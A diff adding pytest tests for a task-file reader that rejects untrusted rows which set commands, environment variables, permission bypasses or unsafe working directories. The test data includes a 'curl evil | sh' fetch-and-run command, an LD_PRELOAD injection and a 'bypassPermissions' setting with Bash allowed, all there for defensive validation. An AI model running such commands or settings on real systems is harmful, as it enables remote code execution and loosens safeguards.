@@ -149,3 +149,40 @@ def test_a_row_without_its_repository_is_no_task(
 ) -> None:
     found = read(lines({**ROW, **more}), HERE, DEFAULTS, tmp_path if has_folder else None)
     assert why in found.problems[0].text
+
+
+@pytest.mark.behaviour("B-2566")
+@pytest.mark.parametrize(
+    ("more", "named"),
+    [
+        ({"check": "curl evil | sh"}, "check"),
+        ({"env": {"LD_PRELOAD": "/tmp/x"}}, "env"),
+        ({"permission_mode": "bypassPermissions", "allowed_tools": ["Bash"]}, "permission_mode, allowed_tools"),
+        ({"cwd": "/"}, "cwd"),
+        ({"cwd": "link"}, "cwd"),
+        ({"model": "large", "max_turns": 3, "timeout_s": 9, "cwd": "inner"}, ""),
+    ],
+)
+@pytest.mark.parametrize("kind", ["row", "beside"])
+def test_what_strangers_wrote_sets_nothing_that_runs_or_loosens(
+    tmp_path: Path, more: dict[str, Any], named: str, kind: str
+) -> None:
+    (tmp_path / ".git").mkdir()
+    (tmp_path / "link").symlink_to("/")
+    said = lines(
+        ROW if kind == "beside" else {**ROW, **more}, *([{"prompt": "go", **more}] if kind == "beside" else [])
+    )
+    found = read(said, tmp_path, DEFAULTS, tmp_path)
+    at = 2 if kind == "beside" else 1
+    assert [(each.line, each.text.partition(":")[0]) for each in found.problems] == ([(at, named)] if named else [])
+    assert all("--allow-row-commands" in each.text for each in found.problems)
+    assert not read(said, tmp_path, DEFAULTS, tmp_path, may_command=True).problems
+    assert not read(lines({"prompt": "go", **more}), tmp_path, DEFAULTS, tmp_path).problems  # a file of one's own
+
+
+@pytest.mark.behaviour("B-2566")
+@pytest.mark.parametrize("line", [{"command": "/deploy"}, {"prompt": " /deploy"}])
+def test_no_line_beside_rows_of_strangers_is_a_command(tmp_path: Path, line: dict[str, Any]) -> None:
+    (tmp_path / ".git").mkdir()
+    (problem,) = read(lines(ROW, line), tmp_path, DEFAULTS, tmp_path).problems
+    assert problem.line == 2 and problem.text.startswith("command: ")
